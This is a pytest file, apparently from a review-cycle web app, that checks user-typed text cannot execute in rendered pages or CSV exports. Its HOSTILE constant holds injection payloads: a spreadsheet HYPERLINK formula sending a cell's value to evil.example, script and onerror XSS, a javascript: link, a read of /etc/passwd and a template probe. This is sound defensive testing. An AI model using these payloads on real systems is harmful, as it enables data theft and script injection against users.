"""Words that would run, load or lead somewhere, wherever a review cycle shows what somebody typed."""

import csv
import io
import re
from uuid import UUID

import pytest

from ladder.domain.ratings import Relation
from ladder.domain.sign_offs import Stance
from ladder.domain.stages import Stage
from ladder.domain.writing import Draft
from ladder.queries.assessments import get_own
from ladder.services import assessments, cycles, declining, sign_offs
from tests.cast import Cast
from tests.conftest import Inside
from tests.factories import NOW, get_assessment, get_participant, make_cycle
from tests.page import Pages

HOSTILE = (
    '=HYPERLINK("https://evil.example/?x="&A1)\n\n<script>alert(1)</script> <img src=x onerror=alert(2)>\n\n'
    '[press](javascript:alert(3)) ![seen](https://evil.example/seen.png)\n\n#image("/etc/passwd") {{ 7 * 7 }}'
)
RUNS = re.compile(r"<script>alert|<img[^>]*(onerror|evil)|(href|src)=.javascript:")


@pytest.fixture
def base(cast: Cast, inside: Inside) -> str:
    """A cycle in which Eva wrote and Erik signed such words, and Mona assessed in them."""
    with inside():
        unsent = {("eva", "erik", Relation.PEER), ("mona", "erik", Relation.MANAGER)}
        cycle = make_cycle(cast, Stage.WRITING, unsent=unsent)
        cycle.title = "=1+1 <b>Autumn</b>"
        for who, relation in (("eva", Relation.PEER), ("emil", Relation.PEER), ("elsa", Relation.PEER)):
            write(cast, get_assessment(cast, cycle, who, "erik", relation).id, who)
        write(cast, get_assessment(cast, cycle, "mona", "erik", Relation.MANAGER).id, "mona")
        one = get_own(cycle.org_id, get_assessment(cast, cycle, "dirk", "dana", Relation.PEER).id, cast.dirk.person_id)
        declining.decline_assessment(own=one, reason=HOSTILE, by=cast.dirk.actor, now=NOW)
        cycles.close_peer_feedback(cycle=cycle, by=cast.olga.actor, now=NOW)
        cycles.close_writing(cycle=cycle, by=cast.olga.actor, now=NOW)
        cycle.stage, cycle.released_at = Stage.SIGN_OFF, NOW
        erik = get_participant(cast, cycle, "erik")
        erik.released_at = NOW
        sign_offs.sign_result(
            cycle=cycle, participant=erik, stance=Stance.OTHERWISE, text=HOSTILE, by=cast.erik.actor, now=NOW
        )
        return f"/o/acme/cycles/{cycle.id}|{erik.id}|{get_participant(cast, cycle, 'dana').id}"


def write(cast: Cast, assessment_id: UUID, who: str) -> None:
    player = cast.players[who]
    own = get_own(player.org_id, assessment_id, player.person_id)
    for item in ("craft", ":summary"):
        rating = 3 if item == "craft" else None
        assessments.save_answer(own=own, draft=Draft(item, rating, HOSTILE, 0), now=NOW)
    assessments.submit_assessment(own=own, cannot_say=True, by=player.actor, now=NOW)


@pytest.mark.parametrize("who", ["erik", "mona", "olga"])
def test_nothing_that_somebody_typed_runs_or_loads_anything(pages: Pages, base: str, who: str) -> None:
    place, erik, dana = base.split("|")
    paths = (f"people/{erik}", f"people/{dana}/peers", f"results/{erik}", f"pack/{erik}", "results", "meeting", "mine")
    texts = [pages.client(who).get(f"{place}/{path}").get_data(as_text=True) for path in paths]
    assert any("alert" in text for text in texts)
    for text in texts:
        assert RUNS.search(text) is None
        assert "{{ 7" in text or "alert" not in text


@pytest.mark.parametrize("who", ["erik", "mona", "olga"])
def test_no_cell_of_a_file_is_run_by_a_spreadsheet(pages: Pages, base: str, who: str) -> None:
    place, erik, _ = base.split("|")
    seen = 0
    for path in (f"results/{erik}.csv", "results.csv"):
        answer = pages.client(who).get(f"{place}/{path}")
        cells = [cell for row in csv.reader(io.StringIO(answer.get_data(as_text=True))) for cell in row]
        seen += answer.status_code == 200 and any("HYPERLINK" in cell for cell in cells)
        assert not [cell for cell in cells if cell.startswith("=")] or answer.status_code != 200
    assert seen
